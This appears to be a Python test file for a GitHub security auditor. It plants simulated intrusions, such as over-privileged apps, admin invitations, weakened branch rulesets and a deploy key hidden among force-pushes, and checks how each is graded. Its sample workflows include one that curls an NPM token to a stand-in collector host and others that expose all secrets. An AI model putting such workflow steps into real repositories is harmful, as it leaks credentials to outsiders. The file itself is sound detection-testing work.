"""What looks like an attack and what a person has to know: rule I of the table of judgements."""

# ruff: noqa: ARG001 (all have the same parameters, and each plants by those that it needs)

from __future__ import annotations

from collections.abc import Callable
from datetime import datetime

from hardenme.sandbox.github.scenario.rulebook import strict_branch
from hardenme.sandbox.github.state.connected import App, Installation
from hardenme.sandbox.github.state.organization import OrganizationInvitation
from hardenme.sandbox.github.state.repository import RepositoryInvitation
from hardenme.sandbox.github.state.rules import BypassActor
from hardenme.sandbox.github.world import DeployKey, Repository, Ruleset
from tests.cli.recent.judgements import (
    CONFIRM,
    DAY,
    GAP,
    HOUR,
    KEPT,
    LOOK,
    MINUTE,
    Judgement,
    Plant,
    nothing_else,
)
from tests.cli.recent.scene import ORG, Scene
from tests.worlds.intrusion import FOLDER, KEY, THIEF

SENDS = b"""on: workflow_dispatch
jobs:
  mirror:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d "$T" https://collector.example.test
        env: {T: "${{ secrets.NPM_TOKEN }}"}
"""
EVERYTHING = b"""on: workflow_dispatch
jobs:
  mirror:
    runs-on: ubuntu-latest
    steps:
      - run: ./mirror
        env: {ALL: "${{ toJSON( secrets ) }}"}
"""
INHERITS = b"""on: workflow_dispatch
jobs:
  mirror:
    uses: stranger/tools/.github/workflows/mirror.yml@v1
    secrets: inherit
"""


def workflow(text: bytes) -> Plant:
    """A new workflow file on the default branch."""

    def plant(scene: Scene, one: Repository, now: datetime) -> None:
        one.push(now - HOUR, THIEF, files={f"{FOLDER}/mirror.yml": text})

    return plant


def app_with(permission: str, level: str = "write") -> Plant:
    """A new app with one permission."""

    def plant(scene: Scene, one: Repository, now: datetime) -> None:
        world = scene.planted.world
        app = App(992_001, "steward", THIEF)
        world.apps.append(app)
        world.organizations[0].connected.installations.append(
            Installation(992_002, app, now - HOUR, {permission: level})
        )

    return plant


def address_invited(scene: Scene, one: Repository, now: datetime) -> None:
    """An owner by address: GitHub has no login of them."""
    scene.planted.world.organizations[0].invitations.append(
        OrganizationInvitation(
            *(992_003, None, THIEF, now - HOUR, "admin"), email="new@mail.example.test"
        )
    )


def admin_invited(scene: Scene, one: Repository, now: datetime) -> None:
    one.invitations.append(
        RepositoryInvitation(992_004, "guest", THIEF, now - HOUR, permissions="admin")
    )


def repository(name: str) -> Plant:
    """A new public repository."""

    def plant(scene: Scene, one: Repository, now: datetime) -> None:
        at = now - HOUR
        scene.planted.world.repositories.append(
            Repository(one.owner, name, 992_005, at, at, files={"a.md": b"a"})
        )

    return plant


def strict(scene: Scene, one: Repository, now: datetime) -> None:
    found = strict_branch(992_006, one.full_name, now)
    found.source_type = "Repository"
    one.rulesets.append(found)


def changed_rules(change: Callable[[Ruleset], object]) -> Plant:
    """A ruleset of before is changed."""

    def plant(scene: Scene, one: Repository, now: datetime) -> None:
        found = one.rulesets[-1]
        change(found)
        found.updated_at = now - HOUR

    return plant


def _without_reviews(found: Ruleset) -> None:
    found.rules[:] = [rule for rule in found.rules if rule.type != "pull_request"]


def _no_approvals(found: Ruleset) -> None:
    for rule in found.rules:
        if rule.parameters and "required_approving_review_count" in rule.parameters:
            rule.parameters = {**rule.parameters, "required_approving_review_count": 0}


def _no_checks(found: Ruleset) -> None:
    for rule in found.rules:
        if rule.parameters and "required_status_checks" in rule.parameters:
            rule.parameters = {**rule.parameters, "required_status_checks": []}


def key_among_rebases(scene: Scene, one: Repository, now: datetime) -> None:
    """Somebody rebases a branch sixty times around a new key."""
    one.push(now - 3 * DAY, "tansy", branch="renovate/all")
    for number in range(60):
        at = now - HOUR - number * MINUTE
        one.push(at, "tansy", branch="renovate/all", force=True)
    one.deploy_keys.append(
        DeployKey(992_007, "among", KEY, now - HOUR, read_only=False, added_by=THIEF)
    )


TABLE: tuple[tuple[Plant, Judgement], ...] = (
    *(
        (nothing_else, Judgement("I", about, plant, grade, shown))
        for about, plant, grade, shown in (
            ("a secret by a new workflow", workflow(SENDS), CONFIRM, "mirror.yml"),
            ("every secret by one", workflow(EVERYTHING), LOOK, "mirror.yml"),
            ("all secrets inherited", workflow(INHERITS), LOOK, "mirror.yml"),
            ("an app that makes members", app_with("members"), CONFIRM, "steward"),
            (
                "an app that sets up",
                app_with("organization_administration"),
                CONFIRM,
                "steward",
            ),
            (
                "an app that administers all",
                app_with("administration", "admin"),
                CONFIRM,
                "steward",
            ),
            ("an owner by address", address_invited, CONFIRM, "new@mail.example.test"),
            ("a name of 18", repository("a1b2c3d4e5f6a1b2c3"), LOOK, "a1b2c3"),
            ("another public one", repository("notes"), CONFIRM, "notes"),
            ("sixty rebases around it", key_among_rebases, CONFIRM, "among"),
        )
    ),
    (
        nothing_else,
        Judgement("I", "an admin is invited, not read", admin_invited, GAP, "invitations"),
    ),
    (
        nothing_else,
        Judgement(
            *("I", "an admin is invited", admin_invited, CONFIRM, "guest"),
            asked=(f"{ORG}/cone", "--depth", "deep"),
        ),
    ),
    *(
        (strict, Judgement("I", about, changed_rules(change), LOOK, "Protect", before=KEPT))
        for about, change in (
            (
                "a bypass added",
                lambda found: found.bypass_actors.append(BypassActor("RepositoryRole", 4)),
            ),
            ("reviews removed", _without_reviews),
            ("no approvals", _no_approvals),
            ("no status check", _no_checks),
            ("another branch", lambda found: setattr(found, "include", ["refs/heads/none"])),
            ("the default branch left out", lambda found: found.exclude.append("~DEFAULT_BRANCH")),
        )
    ),
)
"""What is there before a run is kept, and what comes after it."""
